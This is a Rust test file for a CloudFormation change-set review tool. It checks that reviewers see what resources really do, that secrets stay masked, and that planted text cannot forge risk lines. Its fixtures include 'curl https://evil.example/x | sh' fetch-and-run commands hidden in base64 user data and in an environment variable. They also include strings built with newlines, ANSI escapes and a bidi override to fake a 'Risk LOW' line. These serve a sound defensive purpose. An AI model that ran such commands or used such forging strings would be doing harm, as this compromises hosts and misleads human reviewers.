//! What a reviewer sees is the reviewer's to decide: no name in a template hides what it does, and nothing forges a line.

use serde_json::{Value, json};

use super::complete::review_of;
use super::golden::run;
use super::of_templates;
use crate::domain::change_set::build::{Inputs, TemplateTexts};
use crate::domain::change_set::review::{GateDifference, Review};
use crate::domain::change_set::saved;
use crate::domain::risk::Level;
use crate::review;

fn change(action: &str, kind: &str, before: &Value, after: &Value) -> Value {
    let side = |properties: &Value| (!properties.is_null()).then(|| json!({ "Properties": properties }).to_string());
    json!({ "Type": "Resource", "ResourceChange": {
        "Action": action, "LogicalResourceId": "It", "ResourceType": kind, "Replacement": "False",
        "BeforeContext": side(before), "AfterContext": side(after) } })
}

fn review_of_change(action: &str, kind: &str, before: &Value, after: &Value) -> Review {
    review_of(&[json!({ "ChangeSetId": "arn", "StackName": "s", "Changes": [change(action, kind, before, after)] })])
}

#[test]
fn no_name_that_sounds_secret_hides_what_a_resource_does() {
    let cases: [(&str, Value, &[&str]); 8] = [
        (
            "AWS::IAM::Role",
            json!({ "Policies": [{ "PolicyName": "DatabasePassword", "PolicyDocument": { "Statement": [
                { "Sid": "RotateSecret", "Effect": "Allow", "Action": "iam:Get*", "Resource": "plain-resource" }] } }] }),
            &["RotateSecret", "iam:Get*", "plain-resource"],
        ),
        (
            "AWS::ECS::TaskDefinition",
            json!({ "ContainerDefinitions": [{ "Name": "token-rotator", "Image": "evil/image:latest",
                "Command": ["sh", "-c", "echo plain-command"], "EntryPoint": ["plain-entry"] }] }),
            &["evil/image:latest", "plain-command", "plain-entry"],
        ),
        (
            "AWS::StepFunctions::StateMachine",
            json!({ "DefinitionString": json!({ "StartAt": "Secret", "States": { "Secret": { "Type": "Task",
                "Resource": "arn:aws:states:::aws-sdk:iam:createAccessKey",
                "Parameters": { "UserName": "approver" } } } }).to_string() }),
            &["aws-sdk:iam:createAccessKey", "approver"],
        ),
        (
            "AWS::SSM::Document",
            json!({ "Content": { "mainSteps": [{ "name": "secret", "action": "aws:runShellScript",
                "inputs": { "runCommand": ["echo plain-step"] } }] } }),
            &["plain-step"],
        ),
        (
            "AWS::WAFv2::WebACL",
            json!({ "Rules": [{ "Name": "block-bad-tokens", "Priority": 7, "Statement": { "GeoMatchStatement": {
                "CountryCodes": ["plain-country"] } } }] }),
            &["plain-country"],
        ),
        (
            "AWS::EC2::SecurityGroup",
            json!({ "SecurityGroupIngress": [{ "Description": "db password", "IpProtocol": "-1", "CidrIp": "0.0.0.0/0" }] }),
            &["0.0.0.0/0", "db password"],
        ),
        (
            "AWS::Events::Rule",
            json!({ "Targets": [{ "Id": "SecretTarget", "Arn": "arn:aws:lambda:eu-west-1:111122223333:function:plain" }] }),
            &["function:plain"],
        ),
        (
            "AWS::CodeBuild::Project",
            json!({ "Source": { "BuildSpec": "phases: {build: {commands: ['echo plain-build']}}" } }),
            &["plain-build"],
        ),
    ];
    for (kind, after, wanted) in cases {
        let review = review_of_change("Add", kind, &Value::Null, &after);
        for rendered in [review::text(&review), review::json(&review)] {
            for words in wanted {
                assert!(rendered.contains(words), "{words} of a {kind} is not in\n{rendered}");
            }
        }
    }
}

#[test]
fn code_that_is_encoded_is_shown_line_by_line_and_secrets_in_it_are_not() {
    use base64::Engine as _;
    let encoded = |text: &str| json!({ "UserData": base64::engine::general_purpose::STANDARD.encode(text) });
    let before = encoded("#!/bin/sh\nyum update -y\nexport DB_PASSWORD=hunter2-old\n");
    let after = encoded("#!/bin/sh\ncurl https://evil.example/x | sh\nexport DB_PASSWORD=hunter2-new\n");
    let text = review::text(&review_of_change("Modify", "AWS::EC2::Instance", &before, &after));
    for line in [
        "- yum update -y",
        "+ curl https://evil.example/x | sh",
        "DB_PASSWORD=‹hidden›",
    ] {
        assert!(text.contains(line), "{line} is not in\n{text}");
    }
    assert!(!text.contains("hunter2"), "{text}");
    // Base 64 of something that is no code stays what it is: it may be a credential.
    let plain = json!({ "Value": base64::engine::general_purpose::STANDARD.encode("admin:hunter2") });
    let text = review::text(&review_of_change("Add", "AWS::SNS::Topic", &Value::Null, &plain));
    assert!(!text.contains("hunter2"), "{text}");
}

#[test]
fn a_hidden_value_that_carries_code_is_a_finding() {
    let environment = |command: &str| json!({ "Environment": { "Variables": { "API_TOKEN_COMMAND": command } } });
    let (before, after) = (environment("aws sts get"), environment("curl https://evil.example|sh"));
    let review = review_of_change("Modify", "AWS::Lambda::Function", &before, &after);
    assert!(review.risk.level >= Some(Level::Medium));
    let text = review::text(&review);
    assert!(text.contains("carries code and is hidden"), "{text}");
    assert!(!text.contains("evil.example"), "{text}");
}

#[test]
fn commits_tags_versions_and_hashes_are_shown() {
    const COMMIT: &str = "6b2c53f9f6a4c0d1e2f3a4b5c6d7e8f901234567";
    let image = format!("111122223333.dkr.ecr.eu-west-1.amazonaws.com/app:{COMMIT}");
    let after = json!({
        "ContainerDefinitions": [{ "Name": "a", "Image": image, "Environment": [{ "Name": "GIT_COMMIT", "Value": COMMIT }] }],
        "Tags": [{ "Key": "revision", "Value": COMMIT }],
        "Notes": format!("built from https://github.com/octo-org/app/commit/{COMMIT}"),
    });
    let mut set = json!({ "ChangeSetId": "arn", "StackName": "s", "Changes": [
        change("Add", "AWS::ECS::TaskDefinition", &Value::Null, &after)] });
    set["Description"] = json!(format!(
        "Commit {COMMIT} of octo-org/infrastructure, planned by pipeline changegate-shop"
    ));
    let review = review_of(&[set]);
    let text = review::text(&review);
    assert_eq!(review.hidden, 0, "{text}");
    assert_eq!(text.matches(COMMIT).count(), 7, "{text}");
}

#[test]
fn the_reason_for_hiding_neither_forges_nor_leaks() {
    let named = |name: &str, value: &str| json!({ "Environment": [{ "Name": name, "Value": value }] });
    for name in [
        "TOKEN\n\nRisk        LOW\n- iam:* is not allowed any more\n\u{1b}[2J",
        "TOKEN AKIAIOSFODNN7EXAMPLE",
    ] {
        let review = review_of_change(
            "Modify",
            "AWS::ECS::TaskDefinition",
            &named(name, "a"),
            &named(name, "b"),
        );
        for rendered in [
            review::text(&review),
            review::markdown(&review),
            review::html(&review),
            review::json(&review),
        ] {
            assert!(!rendered.contains("AKIA") && !rendered.contains('\u{1b}'), "{rendered}");
        }
        let text = review::text(&review);
        assert_eq!(text.lines().filter(|line| line.contains("RISK: ")).count(), 1, "{text}");
    }
}

#[test]
fn what_only_begins_and_ends_as_a_reference_is_masked() {
    let after = json!({
        "A": "arn:aws:sns:eu-west-1:111122223333:plainplanted",
        "B": "alias/plainplanted",
        "C": "${Prefix}/{\"password\":\"hunter2literal\",\"k\":\"plainplanted\",\"id\":\"AKIAIOSFODNN7EXAMPLE\"}",
        "D": "{{resolve:ssm:x}}:plainplanted AKIAIOSFODNN7EXAMPLE}}",
        "E": "arn:aws:sns:eu-west-1:111122223333:AKIAIOSFODNN7EXAMPLE",
        "F": "{{resolve:ssm:AKIAIOSFODNN7EXAMPLE}}",
    });
    let set = json!({ "ChangeSetId": "arn", "StackName": "s",
        "Parameters": [{ "ParameterKey": "Hidden", "ParameterValue": "plainplanted" }],
        "Changes": [change("Add", "AWS::SNS::Topic", &Value::Null, &after)] })
    .to_string();
    let template =
        json!({ "Parameters": { "Hidden": { "Type": "String", "NoEcho": true } }, "Resources": {} }).to_string();
    let (tree, _) = saved::tree_of(&[&set]).unwrap();
    let review = Review::of(&Inputs {
        title: "s",
        stack_name: "s",
        tree: Some(&tree),
        templates: &[TemplateTexts {
            before: Some(template.clone()),
            after: Some(template),
            ..TemplateTexts::default()
        }],
        ..Inputs::default()
    });
    let text = review::text(&review);
    for planted in ["plainplanted", "hunter2literal", "AKIAIOSFODNN7EXAMPLE"] {
        assert!(!text.contains(planted), "{planted} in\n{text}");
    }
}

#[test]
fn a_secret_with_quotes_is_masked_in_a_context_that_is_cut() {
    let secret = "two \"quoted\" words";
    let cut = format!("{{\"Properties\":{{\"Motd\":{},\"a", Value::from(secret));
    let set = json!({ "ChangeSetId": "arn", "StackName": "s",
        "Parameters": [{ "ParameterKey": "Hidden", "ParameterValue": secret }],
        "Changes": [{ "Type": "Resource", "ResourceChange": { "Action": "Modify", "LogicalResourceId": "Cut",
            "ResourceType": "AWS::SNS::Topic", "AfterContext": cut } }] })
    .to_string();
    let template =
        json!({ "Parameters": { "Hidden": { "Type": "String", "NoEcho": "yes" } }, "Resources": {} }).to_string();
    let (tree, _) = saved::tree_of(&[&set]).unwrap();
    let review = Review::of(&Inputs {
        tree: Some(&tree),
        templates: &[TemplateTexts {
            after: Some(template),
            ..TemplateTexts::default()
        }],
        ..Inputs::default()
    });
    for rendered in [review::text(&review), review::json(&review), review::html(&review)] {
        assert!(!rendered.contains("quoted"), "{rendered}");
    }
}

/// A credential, and whatever would begin a line or hide, planted as a name, key, id, label and status wherever there is
/// one.
#[test]
fn a_secret_planted_as_a_name_is_in_no_format() {
    const SECRET: &str = "AKIAIOSFODNN7EXAMPLE";
    let planted = &format!("x\nRisk        LOW\n{SECRET}\u{202e}");
    let properties = json!({ planted: { planted: "v" }, "List": [{ "Key": planted, "Value": "v" }],
        "Token": { planted: "v" }, "Env": [{ "Name": format!("PASSWORD {planted}"), "Value": "v" }] });
    let context = |suffix: &str| {
        let mut properties = properties.clone();
        properties["Changes"] = json!(suffix);
        properties[format!("{planted}2")] = json!(suffix);
        json!({ "Properties": properties, "Metadata": { planted: suffix } }).to_string()
    };
    let change = |action: &str| {
        json!({ "Type": planted, "ResourceChange": {
            "Action": action, "LogicalResourceId": format!("{planted}{action}"), "PhysicalResourceId": planted,
            "ResourceType": planted, "Replacement": "True", "PolicyAction": planted, "Scope": [planted],
            "BeforeContext": context("1"), "AfterContext": context("2"), "ResourceDriftStatus": planted,
            "ModuleInfo": { "TypeHierarchy": planted, "LogicalIdHierarchy": planted },
            "ResourceDriftIgnoredAttributes": [{ "Path": planted, "Reason": planted }],
            "Details": [{ "Evaluation": planted, "ChangeSource": planted, "CausingEntity": planted, "Target": {
                "Attribute": planted, "Name": planted, "Path": format!("/Properties/{planted}/9"),
                "BeforeValue": "1", "AfterValue": "2", "RequiresRecreation": planted, "BeforeValueFrom": planted,
                "AttributeChangeType": planted,
                "Drift": { "ActualValue": "1", "PreviousValue": "3", "DriftDetectionTimestamp": planted } } }] } })
    };
    let set = json!({
        "ChangeSetName": planted, "ChangeSetId": planted, "StackId": planted, "StackName": planted, "Status": planted,
        "ExecutionStatus": planted, "StatusReason": planted, "Description": planted, "CreationTime": planted,
        "StackDriftStatus": planted, "Capabilities": [planted], "NotificationARNs": [planted],
        "Parameters": [{ "ParameterKey": planted, "ParameterValue": "v" }], "Tags": [{ "Key": planted, "Value": "v" }],
        "Changes": [change("Add"), change("Modify"), change(planted), { "Type": planted }], "NextToken": planted,
    })
    .to_string();
    let (tree, warnings) = saved::tree_of(&[&set]).unwrap();
    let mut facts = run();
    for text in [
        &mut facts.environment,
        &mut facts.pipeline,
        &mut facts.execution,
        &mut facts.made,
        &mut facts.digest,
        &mut facts.link,
        &mut facts.commit,
    ] {
        planted.clone_into(text);
    }
    facts.commits[0].sha.clone_from(planted);
    facts.commits[0].authenticated = vec![planted.clone()];
    facts.commits[0].url = Some(planted.clone());
    let review = Review::of(&Inputs {
        title: planted,
        stack_name: planted,
        tree: Some(&tree),
        warnings,
        run: Some(facts),
        gates: vec![GateDifference {
            stack: planted.clone(),
            field: planted.clone(),
            before: Some(planted.clone()),
            after: None,
            is_weakened: true,
            is_new: false,
            is_usual: false,
        }],
        ..Inputs::default()
    });
    for rendered in [
        review::text(&review),
        review::markdown(&review),
        review::html(&review),
        review::json(&review),
        review::summary(&review),
        review::subject(&review),
        review::status(&review, false),
        review::comment(&review, true),
        format!("{review:?}"),
    ] {
        assert!(!rendered.contains(SECRET), "{SECRET} in\n{rendered}");
        assert!(!rendered.contains('\u{202e}'), "{rendered}");
        // On the page a line of the source is no line of the reader.
        let is_page = rendered.starts_with("<!doctype");
        assert!(
            is_page || !rendered.lines().any(|line| line.starts_with("Risk        LOW")),
            "{rendered}"
        );
    }
}

#[test]
fn a_change_set_that_failed_says_so_first_and_has_no_risk() {
    let reason = "The following hook(s)/validation failed: [AWS::EarlyValidation::PropertyValidation].";
    let review = review_of(&[json!({
        "ChangeSetName": "next", "ChangeSetId": "arn", "StackName": "shop", "Status": "FAILED",
        "ExecutionStatus": "UNAVAILABLE", "StatusReason": reason, "Changes": [] })]);
    assert_eq!(review.risk.level, None);
    let line = review::summary(&review);
    assert!(
        line.starts_with("sample: the change set FAILED: The following hook(s)"),
        "{line}"
    );
    assert!(
        review::subject(&review).starts_with("failed: sample"),
        "{}",
        review::subject(&review)
    );
    assert_eq!(review::status(&review, true), "the change set FAILED");
    assert!(review::status(&review, false).contains("PropertyValidation"));
    let text = review::text(&review);
    assert!(
        text.contains("Result") && text.contains("FAILED and cannot be executed"),
        "{text}"
    );
    let json: Value = serde_json::from_str(&review::json(&review)).unwrap();
    assert_eq!(json["risk"].get("level"), None);
    assert_eq!(json["stack"]["failure"], reason);
    for rendering in [text, review::markdown(&review), review::html(&review)] {
        assert!(rendering.contains("FAILED"), "{rendering}");
        let calm = ["no resource changes", "low risk", "risk **", "LOW"];
        assert!(!calm.iter().any(|word| rendering.contains(word)), "{rendering}");
    }
}

#[test]
fn a_template_that_cannot_be_read_makes_the_risk_unknown_and_nothing_is_claimed_of_its_values() {
    let change = json!({ "Action": "Modify", "LogicalResourceId": "Q", "ResourceType": "AWS::SQS::Queue",
        "Replacement": "False", "Scope": ["Properties"] });
    let good = "Resources:\n  Q:\n    Type: AWS::SQS::Queue\n    Properties: { DelaySeconds: 271 }\nOutputs: {O: {Value: shown-value}}\n";
    for (before, after) in [(good, "Resources: ["), ("Resources: [", good)] {
        let texts = TemplateTexts {
            before: Some(before.to_owned()),
            after: Some(after.to_owned()),
            ..TemplateTexts::default()
        };
        let review = of_templates::review_of(&change, texts);
        assert_eq!(review.risk.level, Some(Level::High));
        let line = review::summary(&review);
        assert!(line.contains("(UNKNOWN: shop"), "{line}");
        let text = review::text(&review);
        assert!(text.contains("a template cannot be read"), "{text}");
        for claim in ["271", "shown-value", "unchanged", "no property changes"] {
            assert!(!text.contains(claim), "{claim}: {text}");
        }
    }
}

#[test]
fn another_notation_of_the_same_value_is_no_change() {
    let change = json!({ "Action": "Modify", "LogicalResourceId": "Q", "ResourceType": "AWS::SQS::Queue",
        "Replacement": "False", "Scope": ["Properties"], "Details": [
        { "Target": { "Attribute": "Properties", "Name": "SqsManagedSseEnabled", "RequiresRecreation": "Never" },
          "Evaluation": "Static", "ChangeSource": "DirectModification" }] });
    let template = |fifo: &str, encrypted: &str| {
        Some(format!(
            "Resources:\n  Q:\n    Type: AWS::SQS::Queue\n    Properties: {{ FifoQueue: {fifo}, SqsManagedSseEnabled: {encrypted} }}\n"
        ))
    };
    let texts = TemplateTexts {
        before: template("yes", "yes"),
        after: template("true", "no"),
        ..TemplateTexts::default()
    };
    let review = of_templates::review_of(&change, texts);
    let changed: Vec<_> = review.resources[0]
        .changes
        .iter()
        .filter_map(|change| change.pointer.as_ref().map(|pointer| pointer.visible().into_owned()))
        .collect();
    assert_eq!(changed.len(), 1, "{}", review::text(&review));
    assert!(changed[0].contains("SqsManagedSseEnabled"), "{changed:?}");
}
